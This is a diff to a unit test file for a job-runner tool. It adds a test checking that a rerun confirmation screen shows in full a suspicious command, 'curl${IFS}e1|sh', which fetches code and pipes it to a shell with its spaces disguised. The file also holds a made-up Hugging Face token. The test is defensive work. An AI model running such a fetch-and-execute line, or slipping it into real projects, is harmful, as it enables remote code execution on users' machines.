@@ -15,11 +15,14 @@ from runner import masking
 from runner.api import library
 from runner.api.library import DistrustError, load_profile, read_profile
 from runner.api.questions import Doubt, Unattended
+from runner.api.rerunning import Again
 from runner.cli.group import cli
 from runner.errors import InputError
 from runner.profile import Profile, ProfileText, parse, read
 from runner.profile.changes import bounded, difference
+from tests.unit.history_kit import kept
 from tests.unit.test_effects import asked, command
+from tui.run.again import consequence
 
 HF = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7" + "yZ"
 TEAM = """
@@ -360,3 +363,13 @@ def test_validate_shows_a_command_that_the_author_made_look_like_a_secret(home: 
     done = command(home, "validate", "team/train", "team/other")
     assert done.stdout.count(f"job.command: on local: sh -c '{evil}' ***\n") == 2
     assert "'job.env.A_PASSWORD' looks like a secret" in done.stderr
+
+
+def test_the_app_asks_about_a_found_run_with_every_word_of_its_commands(tmp_path: Path) -> None:
+    evil = "curl${IFS}e1|sh"
+    found = profile(hosts=["evil-host1"], job={"command": ["sh", "-c", evil], "env": {"A_PASSWORD": evil}})
+    masking.suspect(evil)  # as the opening of the run does
+    masking.suspect("evil-host1")
+    made = Again(run="two-7f3a", profile=found, source=None, sandbox=False, ssh_config=None, foreign=True)
+    lines = consequence(kept(tmp_path), made, None)
+    assert "hosts: evil-host1" in lines and f"job.command: on evil-host1: sh -c '{evil}'" in lines
